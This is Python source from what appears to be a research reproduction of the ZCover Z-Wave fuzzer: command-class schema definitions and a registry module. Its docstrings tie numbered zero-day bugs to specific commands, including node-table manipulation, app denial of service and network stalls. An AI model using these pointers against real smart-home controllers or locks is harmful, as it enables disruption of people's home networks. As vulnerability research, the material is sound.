            Command(0x03, "COMMANDS_SUPPORTED_REPORT", SUPPORTING, REPORT, (_p("reports_to_follow", 0),)),
            Command(0x04, "SCHEME_GET", CONTROLLING, GET, (_p("supported_schemes", 0, kind=ParamKind.BITMASK),)),
            Command(0x05, "SCHEME_REPORT", SUPPORTING, REPORT, (_p("supported_schemes", 0, kind=ParamKind.BITMASK),)),
            Command(0x06, "NETWORK_KEY_SET", CONTROLLING, SET, (_p("key_byte_0", 0),)),
            Command(0x07, "NETWORK_KEY_VERIFY", SUPPORTING, REPORT, ()),
            Command(0x40, "NONCE_GET", BOTH, GET, ()),
            Command(0x80, "NONCE_REPORT", BOTH, REPORT, (_p("nonce_byte_0", 0),)),
        ),
    )


def _firmware_update_md() -> CommandClass:
    """FIRMWARE_UPDATE_MD (0x7A): 7 commands; bugs #09 and #15 live here."""
    return CommandClass(
        0x7A,
        "FIRMWARE_UPDATE_MD",
        version=5,
        cluster=Cluster.MANAGEMENT,
        commands=(
            Command(0x01, "FIRMWARE_MD_GET", CONTROLLING, GET, ()),
            Command(0x02, "FIRMWARE_MD_REPORT", SUPPORTING, REPORT, (_p("manufacturer_id_msb", 0), _p("manufacturer_id_lsb", 1))),
            Command(0x03, "FIRMWARE_UPDATE_MD_REQUEST_GET", CONTROLLING, GET, (_p("manufacturer_id_msb", 0), _p("manufacturer_id_lsb", 1))),
            Command(0x04, "FIRMWARE_UPDATE_MD_REQUEST_REPORT", SUPPORTING, REPORT, (_p("status", 0),)),
            Command(0x05, "FIRMWARE_UPDATE_MD_GET", SUPPORTING, GET, (_p("number_of_reports", 0), _p("report_number", 1))),
            Command(0x06, "FIRMWARE_UPDATE_MD_REPORT", CONTROLLING, REPORT, (_p("report_number_msb", 0), _p("report_number_lsb", 1))),
            Command(0x07, "FIRMWARE_UPDATE_MD_STATUS_REPORT", SUPPORTING, REPORT, (_p("status", 0), _p("wait_time_msb", 1), _p("wait_time_lsb", 2))),
        ),
    )


def _association_group_info() -> CommandClass:
    """ASSOCIATION_GRP_INFO (0x59): 6 commands; bugs #08 and #11 live here."""
    group = _p("grouping_identifier", 0, kind=ParamKind.RANGE, low=1, high=5)
    group_at_1 = _p("grouping_identifier", 1, kind=ParamKind.RANGE, low=1, high=5)
    return CommandClass(
        0x59,
        "ASSOCIATION_GRP_INFO",
        version=3,
        cluster=Cluster.MANAGEMENT,
        commands=(
            Command(0x01, "GROUP_NAME_GET", CONTROLLING, GET, (group,)),
            Command(0x02, "GROUP_NAME_REPORT", SUPPORTING, REPORT, (group, _p("length", 1))),
            Command(0x03, "GROUP_INFO_GET", CONTROLLING, GET, (_p("flags", 0, kind=ParamKind.BITMASK), group_at_1)),
            Command(0x04, "GROUP_INFO_REPORT", SUPPORTING, REPORT, (_p("flags", 0, kind=ParamKind.BITMASK), group_at_1)),
            Command(0x05, "GROUP_COMMAND_LIST_GET", CONTROLLING, GET, (_p("flags", 0, kind=ParamKind.BITMASK), group_at_1)),
            Command(0x06, "GROUP_COMMAND_LIST_REPORT", SUPPORTING, REPORT, (group, _p("list_length", 1))),
        ),
    )


def _door_lock() -> CommandClass:
    """DOOR_LOCK (0x62): 6 commands (controlling side lives in the hub)."""
    mode = _p("door_lock_mode", 0, kind=ParamKind.ENUM, enum_values=(0x00, 0x01, 0x10, 0x11, 0x20, 0x21, 0xFF))
    return CommandClass(
        0x62,
        "DOOR_LOCK",
        version=4,
        cluster=Cluster.APPLICATION,
        commands=(
            Command(0x01, "DOOR_LOCK_OPERATION_SET", CONTROLLING, SET, (mode,)),
            Command(0x02, "DOOR_LOCK_OPERATION_GET", CONTROLLING, GET, ()),
            Command(0x03, "DOOR_LOCK_OPERATION_REPORT", SUPPORTING, REPORT, (mode, _p("handles_mode", 1, kind=ParamKind.BITMASK))),
            Command(0x04, "DOOR_LOCK_CONFIGURATION_SET", CONTROLLING, SET, (_p("operation_type", 0, kind=ParamKind.ENUM, enum_values=(0x01, 0x02)),)),
            Command(0x05, "DOOR_LOCK_CONFIGURATION_GET", CONTROLLING, GET, ()),
            Command(0x06, "DOOR_LOCK_CONFIGURATION_REPORT", SUPPORTING, REPORT, (_p("operation_type", 0),)),
        ),
    )


def _association() -> CommandClass:
    """ASSOCIATION (0x85): 5 commands."""
    group = _p("grouping_identifier", 0, kind=ParamKind.RANGE, low=1, high=5)
    return CommandClass(
        0x85,
        "ASSOCIATION",
        version=2,
        cluster=Cluster.MANAGEMENT,
        commands=(
            Command(0x01, "ASSOCIATION_SET", CONTROLLING, SET, (group, _p("node_id", 1, kind=ParamKind.NODE_ID))),
            Command(0x02, "ASSOCIATION_GET", CONTROLLING, GET, (group,)),
            Command(0x03, "ASSOCIATION_REPORT", SUPPORTING, REPORT, (group, _p("max_nodes", 1))),
            Command(0x04, "ASSOCIATION_REMOVE", CONTROLLING, SET, (group, _p("node_id", 1, kind=ParamKind.NODE_ID))),
            Command(0x05, "ASSOCIATION_GROUPINGS_GET", CONTROLLING, GET, ()),
        ),
    )


def _wake_up() -> CommandClass:
    """WAKE_UP (0x84): 4 commands; bug #14's WAKEUP packet targets this."""
    return CommandClass(
        0x84,
        "WAKE_UP",
        version=3,
        cluster=Cluster.MANAGEMENT,
        commands=(
            Command(0x04, "WAKE_UP_INTERVAL_SET", CONTROLLING, SET, (_p("seconds_msb", 0), _p("seconds_mid", 1), _p("seconds_lsb", 2), _p("node_id", 3, kind=ParamKind.NODE_ID))),
            Command(0x05, "WAKE_UP_INTERVAL_GET", CONTROLLING, GET, ()),
            Command(0x06, "WAKE_UP_INTERVAL_REPORT", SUPPORTING, REPORT, (_p("seconds_msb", 0), _p("seconds_mid", 1), _p("seconds_lsb", 2))),
            Command(0x07, "WAKE_UP_NOTIFICATION", SUPPORTING, NOTIFY, ()),
        ),
    )


def _version() -> CommandClass:
    """VERSION (0x86): bug #10 lives at CMD 0x13 (COMMAND_CLASS_GET)."""
    return CommandClass(
        0x86,
        "VERSION",
        version=3,
        cluster=Cluster.MANAGEMENT,
        commands=(
            Command(0x11, "VERSION_GET", CONTROLLING, GET, ()),
            Command(0x12, "VERSION_REPORT", SUPPORTING, REPORT, (_p("library_type", 0), _p("protocol_version", 1), _p("protocol_sub_version", 2))),
            Command(0x13, "VERSION_COMMAND_CLASS_GET", CONTROLLING, GET, (_p("requested_command_class", 0),)),
            Command(0x14, "VERSION_COMMAND_CLASS_REPORT", SUPPORTING, REPORT, (_p("requested_command_class", 0), _p("command_class_version", 1))),
            Command(0x15, "VERSION_CAPABILITIES_GET", CONTROLLING, GET, ()),
        ),
    )


def _device_reset_locally() -> CommandClass:
    """DEVICE_RESET_LOCALLY (0x5A): 2 commands; bug #07 at CMD 0x01."""
    return CommandClass(
        0x5A,
        "DEVICE_RESET_LOCALLY",
        version=1,
        cluster=Cluster.MANAGEMENT,
        commands=(
            Command(0x01, "DEVICE_RESET_LOCALLY_NOTIFICATION", SUPPORTING, NOTIFY, ()),
            Command(0x02, "DEVICE_RESET_LOCALLY_STATUS", SUPPORTING, REPORT, (_p("status", 0),)),
        ),
    )


def _powerlevel() -> CommandClass:
    """POWERLEVEL (0x73): bug #13 lives at CMD 0x04 (TEST_NODE_SET)."""
    level = _p("power_level", 0, kind=ParamKind.RANGE, low=0x00, high=0x09)
    return CommandClass(
        0x73,
        "POWERLEVEL",
        version=1,
        cluster=Cluster.MANAGEMENT,
        commands=(
            Command(0x01, "POWERLEVEL_SET", CONTROLLING, SET, (level, _p("timeout", 1, kind=ParamKind.RANGE, low=0x01, high=0xFF))),
            Command(0x02, "POWERLEVEL_GET", CONTROLLING, GET, ()),
            Command(0x03, "POWERLEVEL_REPORT", SUPPORTING, REPORT, (level, _p("timeout", 1))),
            Command(0x04, "POWERLEVEL_TEST_NODE_SET", CONTROLLING, SET, (_p("test_node_id", 0, kind=ParamKind.NODE_ID), _p("power_level", 1, kind=ParamKind.RANGE, low=0x00, high=0x09), _p("test_frame_count_msb", 2), _p("test_frame_count_lsb", 3))),
            Command(0x05, "POWERLEVEL_TEST_NODE_GET", CONTROLLING, GET, ()),
            Command(0x06, "POWERLEVEL_TEST_NODE_REPORT", SUPPORTING, REPORT, (_p("test_node_id", 0, kind=ParamKind.NODE_ID), _p("status", 1))),
        ),
    )


def _application_status() -> CommandClass:
    """APPLICATION_STATUS (0x22): 2 commands."""
    return CommandClass(
        0x22,
        "APPLICATION_STATUS",
        version=1,
        cluster=Cluster.MANAGEMENT,
        commands=(
            Command(0x01, "APPLICATION_BUSY", SUPPORTING, NOTIFY, (_p("status", 0, kind=ParamKind.ENUM, enum_values=(0x00, 0x01, 0x02)), _p("wait_time", 1))),
            Command(0x02, "APPLICATION_REJECTED_REQUEST", SUPPORTING, NOTIFY, (_p("status", 0),)),
        ),
    )


def _switch_binary() -> CommandClass:
    """SWITCH_BINARY (0x25): the smart-switch interface (D9)."""
    value = _p("target_value", 0, kind=ParamKind.ENUM, enum_values=(0x00, 0xFF))
    return CommandClass(
        0x25,
        "SWITCH_BINARY",
        version=2,
        cluster=Cluster.APPLICATION,
        commands=(
            Command(0x01, "SWITCH_BINARY_SET", CONTROLLING, SET, (value,)),
            Command(0x02, "SWITCH_BINARY_GET", CONTROLLING, GET, ()),
            Command(0x03, "SWITCH_BINARY_REPORT", SUPPORTING, REPORT, (_p("current_value", 0),)),
        ),
    )


def _switch_multilevel() -> CommandClass:
    """SWITCH_MULTILEVEL (0x26)."""
    value = _p("value", 0, kind=ParamKind.RANGE, low=0x00, high=0x63)
    return CommandClass(
        0x26,
        "SWITCH_MULTILEVEL",
        version=4,
        cluster=Cluster.APPLICATION,
        commands=(
            Command(0x01, "SWITCH_MULTILEVEL_SET", CONTROLLING, SET, (value, _p("duration", 1))),
            Command(0x02, "SWITCH_MULTILEVEL_GET", CONTROLLING, GET, ()),
            Command(0x03, "SWITCH_MULTILEVEL_REPORT", SUPPORTING, REPORT, (value,)),
            Command(0x04, "SWITCH_MULTILEVEL_START_LEVEL_CHANGE", CONTROLLING, SET, (_p("flags", 0, kind=ParamKind.BITMASK), _p("start_level", 1, kind=ParamKind.RANGE, low=0x00, high=0x63))),
            Command(0x05, "SWITCH_MULTILEVEL_STOP_LEVEL_CHANGE", CONTROLLING, SET, ()),
        ),
    )


def _supervision() -> CommandClass:
    """SUPERVISION (0x6C) transport encapsulation."""
    return CommandClass(
        0x6C,
        "SUPERVISION",
        version=2,
        cluster=Cluster.TRANSPORT_ENCAPSULATION,
        commands=(
            Command(0x01, "SUPERVISION_GET", BOTH, GET, (_p("session_id", 0, kind=ParamKind.BITMASK), _p("encapsulated_length", 1))),
            Command(0x02, "SUPERVISION_REPORT", BOTH, REPORT, (_p("session_id", 0, kind=ParamKind.BITMASK), _p("status", 1, kind=ParamKind.ENUM, enum_values=(0x00, 0x01, 0x02, 0xFF)))),
        ),
    )


def _manufacturer_specific() -> CommandClass:
    """MANUFACTURER_SPECIFIC (0x72)."""
    return CommandClass(
        0x72,
        "MANUFACTURER_SPECIFIC",
        version=2,
        cluster=Cluster.MANAGEMENT,
        commands=(
            Command(0x04, "MANUFACTURER_SPECIFIC_GET", CONTROLLING, GET, ()),
            Command(0x05, "MANUFACTURER_SPECIFIC_REPORT", SUPPORTING, REPORT, (_p("manufacturer_id_msb", 0), _p("manufacturer_id_lsb", 1))),
            Command(0x06, "DEVICE_SPECIFIC_GET", CONTROLLING, GET, (_p("device_id_type", 0, kind=ParamKind.ENUM, enum_values=(0x00, 0x01, 0x02)),)),
            Command(0x07, "DEVICE_SPECIFIC_REPORT", SUPPORTING, REPORT, (_p("device_id_type", 0),)),
        ),
    )


def _zwaveplus_info() -> CommandClass:
    """ZWAVEPLUS_INFO (0x5E)."""
    return CommandClass(
        0x5E,
        "ZWAVEPLUS_INFO",
        version=2,
        cluster=Cluster.MANAGEMENT,
        commands=(
            Command(0x01, "ZWAVEPLUS_INFO_GET", CONTROLLING, GET, ()),
            Command(0x02, "ZWAVEPLUS_INFO_REPORT", SUPPORTING, REPORT, (_p("zwaveplus_version", 0), _p("role_type", 1), _p("node_type", 2))),
        ),
    )


def _configuration() -> CommandClass:
    """CONFIGURATION (0x70)."""
    number = _p("parameter_number", 0)
    return CommandClass(
        0x70,
        "CONFIGURATION",
        version=4,
        cluster=Cluster.APPLICATION,
        commands=(
            Command(0x04, "CONFIGURATION_SET", CONTROLLING, SET, (number, _p("size", 1, kind=ParamKind.ENUM, enum_values=(0x01, 0x02, 0x04)))),
            Command(0x05, "CONFIGURATION_GET", CONTROLLING, GET, (number,)),
            Command(0x06, "CONFIGURATION_REPORT", SUPPORTING, REPORT, (number, _p("size", 1))),
            Command(0x07, "CONFIGURATION_BULK_SET", CONTROLLING, SET, (_p("offset_msb", 0), _p("offset_lsb", 1))),
            Command(0x08, "CONFIGURATION_BULK_GET", CONTROLLING, GET, (_p("offset_msb", 0), _p("offset_lsb", 1))),
        ),
    )


def _notification() -> CommandClass:
    """NOTIFICATION (0x71)."""
    ntype = _p("notification_type", 0)
    return CommandClass(
        0x71,
        "NOTIFICATION",
        version=8,
        cluster=Cluster.APPLICATION,
        commands=(
            Command(0x01, "NOTIFICATION_SET", CONTROLLING, SET, (ntype, _p("status", 1, kind=ParamKind.ENUM, enum_values=(0x00, 0xFF)))),
            Command(0x04, "NOTIFICATION_GET", CONTROLLING, GET, (_p("v1_alarm_type", 0), _p("notification_type", 1))),
            Command(0x05, "NOTIFICATION_REPORT", SUPPORTING, REPORT, (_p("v1_alarm_type", 0), _p("v1_alarm_level", 1))),
            Command(0x07, "NOTIFICATION_SUPPORTED_GET", CONTROLLING, GET, ()),
            Command(0x08, "NOTIFICATION_SUPPORTED_REPORT", SUPPORTING, REPORT, (_p("number_of_bit_masks", 0),)),
        ),
    )


def _multi_channel() -> CommandClass:
    """MULTI_CHANNEL (0x60) encapsulation."""
    endpoint = _p("end_point", 0, kind=ParamKind.RANGE, low=1, high=127)
    return CommandClass(
        0x60,
        "MULTI_CHANNEL",
        version=4,
        cluster=Cluster.TRANSPORT_ENCAPSULATION,
        commands=(
            Command(0x07, "MULTI_CHANNEL_END_POINT_GET", CONTROLLING, GET, ()),
            Command(0x08, "MULTI_CHANNEL_END_POINT_REPORT", SUPPORTING, REPORT, (_p("flags", 0, kind=ParamKind.BITMASK), _p("endpoints", 1))),
            Command(0x09, "MULTI_CHANNEL_CAPABILITY_GET", CONTROLLING, GET, (endpoint,)),
            Command(0x0A, "MULTI_CHANNEL_CAPABILITY_REPORT", SUPPORTING, REPORT, (endpoint,)),
            Command(0x0D, "MULTI_CHANNEL_CMD_ENCAP", BOTH, OTHER, (_p("source_end_point", 0), _p("destination", 1))),
        ),
    )


# ---------------------------------------------------------------------------
# Proprietary classes — ABSENT from the public specification
# ---------------------------------------------------------------------------


def _proprietary_network_management() -> CommandClass:
    """Proprietary CMDCL 0x01: Z-Wave network-management internals.

    Section III-C2: "ZCover uncovered two additional proprietary CMDCLs
    (0x01 and 0x02) that were absent from the official Z-Wave
    specification.  Notably, CMDCL 0x01, a Z-Wave network management
    property, was not explicitly listed by developers, likely due to
    incomplete implementation."  Seven of the fifteen zero-days (Table III)
    live here: CMD 0x0D manipulates the controller's node table (bugs #01 -
    #04, #12), CMD 0x02 causes the smartphone-app DoS (bug #05) and CMD
    0x04 triggers the four-minute neighbour-discovery stall (bug #14).
    """
    node_id = _p("node_id", 0, kind=ParamKind.NODE_ID)
    node_id_1 = _p("node_id", 1, kind=ParamKind.NODE_ID)
    return CommandClass(
        0x01,
        "ZWAVE_PROTOCOL",
        version=1,
        cluster=Cluster.PROPRIETARY,
        in_public_spec=False,
        secure_only=True,
        commands=(
            Command(0x01, "PROTOCOL_NODE_INFO", BOTH, OTHER, (node_id,)),
            Command(0x02, "PROTOCOL_APP_UPDATE", SUPPORTING, NOTIFY, (_p("status", 0), node_id_1)),
            Command(0x03, "PROTOCOL_CMD_COMPLETE", SUPPORTING, NOTIFY, ()),
            Command(0x04, "PROTOCOL_FIND_NODES_IN_RANGE", CONTROLLING, SET, (_p("node_mask_length", 0, kind=ParamKind.RANGE, low=0, high=29), _p("node_mask_0", 1, kind=ParamKind.BITMASK))),
            Command(0x05, "PROTOCOL_GET_NODES_IN_RANGE", CONTROLLING, GET, ()),
            Command(0x06, "PROTOCOL_RANGE_INFO", SUPPORTING, REPORT, (_p("node_mask_length", 0),)),
            Command(0x07, "PROTOCOL_COMMAND_COMPLETE", SUPPORTING, NOTIFY, (_p("seq_no", 0),)),
            Command(0x08, "PROTOCOL_TRANSFER_PRESENTATION", CONTROLLING, NOTIFY, (_p("option", 0, kind=ParamKind.BITMASK),)),
            Command(0x09, "PROTOCOL_TRANSFER_NODE_INFO", CONTROLLING, SET, (_p("seq_no", 0), node_id_1, _p("capability", 2, kind=ParamKind.BITMASK))),
            Command(0x0A, "PROTOCOL_TRANSFER_RANGE_INFO", CONTROLLING, SET, (_p("seq_no", 0), node_id_1)),
            Command(0x0B, "PROTOCOL_TRANSFER_END", CONTROLLING, NOTIFY, (_p("status", 0),)),
            Command(0x0C, "PROTOCOL_ASSIGN_RETURN_ROUTE", CONTROLLING, SET, (node_id, _p("route_index", 1))),
            Command(
                0x0D,
                "PROTOCOL_NVM_NODE_WRITE",
                CONTROLLING,
                SET,
                (
                    node_id,
                    _p("operation", 1, kind=ParamKind.ENUM, enum_values=(0x00, 0x01, 0x02, 0x03, 0x04)),
                    _p("capability", 2, kind=ParamKind.BITMASK),
                    _p("security", 3, kind=ParamKind.BITMASK),
                    _p("device_class", 4),
                ),
            ),
            Command(0x0E, "PROTOCOL_NEW_NODE_REGISTERED", SUPPORTING, NOTIFY, (node_id,)),
            Command(0x0F, "PROTOCOL_NEW_RANGE_REGISTERED", SUPPORTING, NOTIFY, (node_id,)),
            Command(0x10, "PROTOCOL_TRANSFER_NEW_PRIMARY_COMPLETE", SUPPORTING, NOTIFY, (_p("role", 0),)),
            Command(0x11, "PROTOCOL_AUTOMATIC_CONTROLLER_UPDATE_START", CONTROLLING, NOTIFY, ()),
            Command(0x12, "PROTOCOL_SUC_NODE_ID", CONTROLLING, SET, (node_id, _p("suc_state", 1, kind=ParamKind.ENUM, enum_values=(0x00, 0x01)))),
            Command(0x13, "PROTOCOL_SET_SUC", CONTROLLING, SET, (_p("state", 0, kind=ParamKind.ENUM, enum_values=(0x00, 0x01)),)),
            Command(0x14, "PROTOCOL_SET_SUC_ACK", SUPPORTING, NOTIFY, (_p("result", 0),)),
        ),
    )


def _proprietary_zensor_net() -> CommandClass:
    """Proprietary CMDCL 0x02: legacy Zensor-net binding, 3 commands."""
    return CommandClass(
        0x02,
        "ZENSOR_NET",
        version=1,
        cluster=Cluster.PROPRIETARY,
        in_public_spec=False,
        commands=(
            Command(0x01, "ZENSOR_BIND", CONTROLLING, SET, (_p("bind_flags", 0, kind=ParamKind.BITMASK),)),
            Command(0x02, "ZENSOR_BIND_ACCEPT", SUPPORTING, REPORT, ()),
            Command(0x03, "ZENSOR_BIND_COMPLETE", SUPPORTING, NOTIFY, ()),
        ),
    )


# ---------------------------------------------------------------------------
# Remaining public classes (simple trio / small command sets)
# ---------------------------------------------------------------------------

#: (id, name, cluster, extra command specs).  Classes without ``extra`` get
#: the canonical SET/GET/REPORT trio.  ``n_extra`` appends numbered vendor
#: commands to vary the Figure 5 distribution realistically.
_SIMPLE_CONTROLLER_CLASSES: Tuple[Tuple[int, str, Cluster], ...] = (
    (0x21, "CONTROLLER_REPLICATION", Cluster.MANAGEMENT),
    (0x27, "SWITCH_ALL", Cluster.APPLICATION),
    (0x2B, "SCENE_ACTIVATION", Cluster.APPLICATION),
    (0x52, "NETWORK_MANAGEMENT_PROXY", Cluster.NETWORK),
    (0x54, "NETWORK_MANAGEMENT_PRIMARY", Cluster.NETWORK),
    (0x55, "TRANSPORT_SERVICE", Cluster.TRANSPORT_ENCAPSULATION),
    (0x56, "CRC_16_ENCAP", Cluster.TRANSPORT_ENCAPSULATION),
    (0x57, "APPLICATION_CAPABILITY", Cluster.MANAGEMENT),
    (0x5B, "CENTRAL_SCENE", Cluster.APPLICATION),
    (0x66, "BARRIER_OPERATOR", Cluster.APPLICATION),
    (0x74, "INCLUSION_CONTROLLER", Cluster.NETWORK),
    (0x75, "PROTECTION", Cluster.MANAGEMENT),
    (0x77, "NODE_NAMING", Cluster.MANAGEMENT),
    (0x78, "NODE_PROVISIONING", Cluster.NETWORK),
    (0x80, "BATTERY", Cluster.MANAGEMENT),
    (0x87, "INDICATOR", Cluster.APPLICATION),
    (0x8A, "TIME", Cluster.MANAGEMENT),
    (0x8B, "TIME_PARAMETERS", Cluster.MANAGEMENT),
    (0x8E, "MULTI_CHANNEL_ASSOCIATION", Cluster.MANAGEMENT),
    (0x8F, "MULTI_CMD", Cluster.TRANSPORT_ENCAPSULATION),
)

_SLAVE_CLASSES: Tuple[Tuple[int, str], ...] = (
    (0x23, "ZIP"),
    (0x24, "SECURITY_PANEL_MODE"),
    (0x28, "SWITCH_TOGGLE_BINARY"),
    (0x29, "SWITCH_TOGGLE_MULTILEVEL"),
    (0x2A, "SCENE_ACTUATOR_CONF_V2"),
    (0x2C, "SCENE_ACTUATOR_CONF"),
    (0x2D, "SCENE_CONTROLLER_CONF"),
    (0x30, "SENSOR_BINARY"),
    (0x31, "SENSOR_MULTILEVEL"),
    (0x32, "METER"),
    (0x33, "SWITCH_COLOR"),
    (0x35, "METER_PULSE"),
    (0x36, "BASIC_TARIFF_INFO"),
    (0x37, "HRV_STATUS"),
    (0x38, "THERMOSTAT_HEATING"),
    (0x39, "HRV_CONTROL"),
    (0x3A, "DCP_CONFIG"),
    (0x3B, "DCP_MONITOR"),
    (0x3C, "METER_TBL_CONFIG"),
    (0x3D, "METER_TBL_MONITOR"),
    (0x3E, "METER_TBL_PUSH"),
    (0x3F, "PREPAYMENT"),
    (0x40, "THERMOSTAT_MODE"),
    (0x41, "PREPAYMENT_ENCAPSULATION"),
    (0x42, "THERMOSTAT_OPERATING_STATE"),
    (0x43, "THERMOSTAT_SETPOINT"),
    (0x44, "THERMOSTAT_FAN_MODE"),
    (0x45, "THERMOSTAT_FAN_STATE"),
    (0x46, "CLIMATE_CONTROL_SCHEDULE"),
    (0x47, "THERMOSTAT_SETBACK"),
    (0x48, "RATE_TBL_CONFIG"),
    (0x49, "RATE_TBL_MONITOR"),
    (0x4A, "TARIFF_CONFIG"),
    (0x4B, "TARIFF_TBL_MONITOR"),
    (0x4C, "DOOR_LOCK_LOGGING"),
    (0x4E, "SCHEDULE_ENTRY_LOCK"),
    (0x4F, "ZIP_6LOWPAN"),
    (0x50, "BASIC_WINDOW_COVERING"),
    (0x51, "MTP_WINDOW_COVERING"),
    (0x53, "SCHEDULE"),
    (0x58, "ZIP_ND"),
    (0x5C, "IP_ASSOCIATION"),
    (0x5D, "ANTITHEFT"),
    (0x5F, "ZIP_GATEWAY"),
    (0x61, "ZIP_PORTAL"),
    (0x64, "HUMIDITY_CONTROL_SETPOINT"),
    (0x65, "DMX"),
    (0x68, "ZIP_NAMING"),
    (0x69, "MAILBOX"),
    (0x6A, "WINDOW_COVERING"),
    (0x6B, "IRRIGATION"),
    (0x6D, "HUMIDITY_CONTROL_MODE"),
    (0x6E, "HUMIDITY_CONTROL_OPERATING_STATE"),
    (0x6F, "ENTRY_CONTROL"),
    (0x76, "LOCK"),
    (0x79, "SOUND_SWITCH"),
    (0x7B, "GROUPING_NAME"),
    (0x7C, "REMOTE_ASSOCIATION_ACTIVATE"),
    (0x7D, "REMOTE_ASSOCIATION"),
    (0x7E, "ANTITHEFT_UNLOCK"),
    (0x81, "CLOCK"),
    (0x82, "HAIL"),
    (0x88, "PROPRIETARY_V1"),
    (0x89, "LANGUAGE"),
    (0x8C, "GEOGRAPHIC_LOCATION"),
    (0x90, "ENERGY_PRODUCTION"),
    (0x91, "MANUFACTURER_PROPRIETARY"),
    (0x92, "SCREEN_MD"),
    (0x93, "SCREEN_ATTRIBUTES"),
    (0x94, "SIMPLE_AV_CONTROL"),
    (0x95, "AV_CONTENT_DIRECTORY_MD"),
    (0x96, "AV_RENDERER_STATUS"),
    (0x97, "AV_CONTENT_SEARCH_MD"),
    (0x99, "AV_TAGGING_MD"),
    (0x9A, "IP_CONFIGURATION"),
    (0x9B, "ASSOCIATION_COMMAND_CONFIGURATION"),
    (0x9C, "SENSOR_ALARM"),
    (0x9D, "SILENCE_ALARM"),
    (0x9E, "SENSOR_CONFIGURATION"),
)

#: Classes that deliberately carry unusual command counts so the Figure 5
#: distribution (…, 1, 1, 0) is representable: HAIL has a single command,
#: PROPRIETARY_V1 has a single opaque command, SECURITY_PANEL_MODE is listed
#: in the spec with no public commands.
_SINGLE_COMMAND_CLASSES = {0x82: "HAIL", 0x88: "PROPRIETARY"}
_EMPTY_CLASSES = {0x24}


def _simple_class(cls_id: int, name: str, cluster: Cluster) -> CommandClass:
    """Build a class from the canonical trio (or its special-cased shape)."""
    if cls_id in _EMPTY_CLASSES:
        return CommandClass(cls_id, name, cluster=cluster, commands=())
    if cls_id in _SINGLE_COMMAND_CLASSES:
        only = Command(0x01, _SINGLE_COMMAND_CLASSES[cls_id], BOTH, NOTIFY, ())
        return CommandClass(cls_id, name, cluster=cluster, commands=(only,))
    return CommandClass(cls_id, name, cluster=cluster, commands=make_get_set_report())


def build_public_spec() -> List[CommandClass]:
    """Return the 122 public command classes of the specification release."""
    detailed = [
        _basic(),
        _application_status(),
        _switch_binary(),
        _switch_multilevel(),
        _network_management_inclusion(),
        _association_group_info(),
        _device_reset_locally(),
        _zwaveplus_info(),
        _multi_channel(),
        _door_lock(),
        _user_code(),
        _network_management_installation_maintenance(),
        _supervision(),
        _configuration(),
        _notification(),
        _manufacturer_specific(),
        _powerlevel(),
        _firmware_update_md(),
        _wake_up(),
        _association(),
        _version(),
        _security_s0(),
        _security_2(),
    ]
    simple_controller = [
        _simple_class(cls_id, name, cluster)
        for cls_id, name, cluster in _SIMPLE_CONTROLLER_CLASSES
    ]
    slave = [
        _simple_class(cls_id, name, Cluster.SLAVE_ONLY) for cls_id, name in _SLAVE_CLASSES
    ]
    classes = detailed + simple_controller + slave
    ids = [c.id for c in classes]
    if len(set(ids)) != len(ids):
        dupes = sorted({i for i in ids if ids.count(i) > 1})
        raise AssertionError(f"duplicate command class ids: {[hex(i) for i in dupes]}")
    return sorted(classes, key=lambda c: c.id)


def build_proprietary_classes() -> List[CommandClass]:
    """Return the proprietary classes absent from the public spec."""
    return [_proprietary_network_management(), _proprietary_zensor_net()]


def build_all_classes() -> Dict[int, CommandClass]:
    """Return every class (public + proprietary) keyed by identifier."""
    classes: Dict[int, CommandClass] = {}
    for cls in build_public_spec() + build_proprietary_classes():
        classes[cls.id] = cls
    return classes


#: The number of classes the 2023B/2024 specification releases list.
PUBLIC_SPEC_CLASS_COUNT = 122
