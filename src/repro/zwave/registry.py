"""Queryable registry over the Z-Wave command-class specification.

The registry is the programmatic equivalent of the paper's "automated script
[that] parses these sources and clusters CMDCLs that a controller should
support" (Section III-C1).  It answers the questions ZCover's discovery and
mutation phases ask:

* which classes exist in the public specification (122 of them),
* which classes a controller is expected to implement (the controller
  clusters: application, transport encapsulation, management, network),
* how many commands each class defines (the prioritisation metric of
  Figure 5), and
* the exact command/parameter schema for semantic mutation.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Sequence, Tuple

from ..errors import UnknownCommandClassError, UnknownCommandError
from .cmdclass import Cluster, Command, CommandClass, CONTROLLER_CLUSTERS
from .spec_data import (
    PUBLIC_SPEC_CLASS_COUNT,
    build_all_classes,
    build_proprietary_classes,
    build_public_spec,
)


class SpecRegistry:
    """Immutable view over a set of :class:`CommandClass` definitions."""

    def __init__(self, classes: Iterable[CommandClass]):
        self._classes: Dict[int, CommandClass] = {}
        for cls in classes:
            if cls.id in self._classes:
                raise ValueError(f"duplicate command class id {cls.id:#04x}")
            self._classes[cls.id] = cls

    # -- basic lookups ------------------------------------------------------

    def __len__(self) -> int:
        return len(self._classes)

    def __contains__(self, cls_id: int) -> bool:
        return cls_id in self._classes

    def __iter__(self):
        return iter(sorted(self._classes.values(), key=lambda c: c.id))

    def get(self, cls_id: int) -> Optional[CommandClass]:
        """Return the class with identifier *cls_id* or ``None``."""
        return self._classes.get(cls_id)

    def require(self, cls_id: int) -> CommandClass:
        """Return the class with identifier *cls_id* or raise."""
        cls = self._classes.get(cls_id)
        if cls is None:
            raise UnknownCommandClassError(f"command class {cls_id:#04x} not in registry")
        return cls

    def command(self, cls_id: int, cmd_id: int) -> Command:
        """Return the command *cmd_id* of class *cls_id* or raise."""
        cls = self.require(cls_id)
        cmd = cls.command(cmd_id)
        if cmd is None:
            raise UnknownCommandError(
                f"command {cmd_id:#04x} not defined for class {cls.name} ({cls_id:#04x})"
            )
        return cmd

    def by_name(self, name: str) -> CommandClass:
        """Return the class named *name* (exact match) or raise."""
        for cls in self._classes.values():
            if cls.name == name:
                return cls
        raise UnknownCommandClassError(f"no command class named {name!r}")

    def class_ids(self) -> Tuple[int, ...]:
        """Return all class identifiers in ascending order."""
        return tuple(sorted(self._classes))

    # -- clustering (Section III-C1) ----------------------------------------

    def public_classes(self) -> List[CommandClass]:
        """Classes present in the public specification release."""
        return [c for c in self if c.in_public_spec]

    def cluster(self, cluster: Cluster) -> List[CommandClass]:
        """All classes belonging to *cluster*."""
        return [c for c in self if c.cluster is cluster]

    def controller_relevant_ids(self, include_proprietary: bool = False) -> Tuple[int, ...]:
        """Identifiers of classes a controller should support.

        With ``include_proprietary=False`` this is the paper's spec-derived
        cluster baseline: the classes "related to application functionality,
        transport encapsulation, management, and networking".  Proprietary
        classes can only enter the picture through validation testing, so
        they are excluded from the spec-derived set by default.
        """
        ids = []
        for cls in self:
